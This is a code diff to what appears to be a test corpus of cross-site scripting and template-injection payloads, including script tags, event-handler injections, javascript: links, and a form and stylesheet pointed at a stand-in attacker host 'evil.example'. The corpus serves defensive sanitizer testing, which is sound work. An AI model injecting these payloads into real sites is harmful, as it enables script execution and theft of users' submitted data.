@@ -16,7 +16,7 @@ const CORPUS = [
   '<a href="javascript:alert(1)">press me</a>',
   '<base href="https://evil.example/"><form action="https://evil.example/"><button>Send</button></form>',
   '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
-  '{{constructor.constructor("alert(1)")()}} ${alert(1)} #{alert(1)}',
+  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %> #{alert(1)}',
   '**<img src=x onerror=alert(1)>** `<script>alert(1)</script>` *<b onclick=alert(1)>b</b>*',
 ];
 
